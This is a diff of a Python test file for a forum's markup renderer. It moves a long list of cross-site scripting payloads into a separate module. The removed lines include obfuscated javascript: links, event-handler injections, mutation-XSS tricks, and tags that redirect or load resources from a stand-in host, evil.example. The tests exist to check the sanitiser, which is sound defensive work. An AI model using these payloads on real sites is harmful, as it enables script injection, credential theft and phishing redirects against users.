@@ -9,6 +9,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from forum.markup import MAX_LENGTH, render
+from tests.forum.hostile import PAYLOADS
 
 TAGS = {
     *("p", "br", "hr", "pre", "blockquote", "ul", "ol", "li", "h3", "h4", "h5", "h6"),
@@ -143,64 +144,6 @@ def test_a_note_that_nobody_mentions_and_a_mention_without_a_note_are_no_links()
 def test_more_marks_than_anybody_needs_are_left_as_they_are():
     assert "<sup>" in render("[^1]: x\n\n" + "[^1]" * 99)
     assert "<sup>" not in render("[^1]: x\n\n" + "[^1]" * 100)
-
-
-PAYLOADS = [
-    '`\n<img src onerror="alert(origin)">\n[x]: `',
-    "\\<!--<img src onerror=alert(origin)//>-->",
-    "<x<b> tabindex=0 autofocus onfocus=alert(1) y>",
-    "<http:|><x| oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>",
-    "<x<b> onmouseover=alert(document.domain)// z>hover",
-    "[x](javascript&#58;alert(1))",
-    "[x](javascript&colon;alert(1))",
-    "[x](javascript&#x3a;alert(1))",
-    "[x](javascript&#0000058;alert(1))",
-    "[x](javascript&#58alert(1))",
-    "[x](java&Tab;script&colon;alert(1))",
-    "[x](java&NewLine;script:alert(1))",
-    "[x]\n\n[x]: javascript&#58;alert(1)",
-    "[x](<javascript:alert(1)>)",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "[x](\x01javascript:alert(1))",
-    "[x](  javascript:alert(1))",
-    "[x](file:///etc/passwd)",
-    "<javascript:alert(1)>",
-    "![x](javascript:alert(1))",
-    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
-    '![x](https://a.example/"onerror="alert(1))',
-    '[x](https://a.example "onmouseover=alert(1)")',
-    "[x](https://a.example '\"><script>alert(1)</script>')",
-    "<script>alert(1)</script>",
-    "<svg/onload=alert(1)>",
-    "<iframe src=javascript:alert(1)>",
-    "<base href=//evil.example>",
-    "<meta http-equiv=refresh content=0;url=//evil.example>",
-    "<form action=//evil.example><button>go",
-    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
-    "<style>@import'//evil.example'</style>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<details open ontoggle=alert(1)>",
-    "<p style='position:fixed;inset:0'>",
-    '```js" onclick="alert(1)\nx\n```',
-    "~~~<img src=x onerror=alert(1)>\n~~~",
-    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
-    "&lt;img src=x onerror=alert(1)&gt;",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?php echo 1 ?>",
-    'http://a.example/"onmouseover=alert(1)//',
-    "https://a.example/'onmouseover='alert(1)",
-    "mailto:a@b.example?subject=<script>",
-    "[x](//evil.example)",
-    "x\0<scr\0ipt>alert(1)</scr\0ipt>",
-    "[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: <script>alert(1)</script>",
-    "[^1]\n\n[^1]: [x](javascript:alert(1))",
-    '[^"onmouseover="alert(1)]\n\n[^"onmouseover="alert(1)]: x',
-    '<li id="main">x</li><a id="content" role="alert" aria-label="x">x</a>',
-]
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
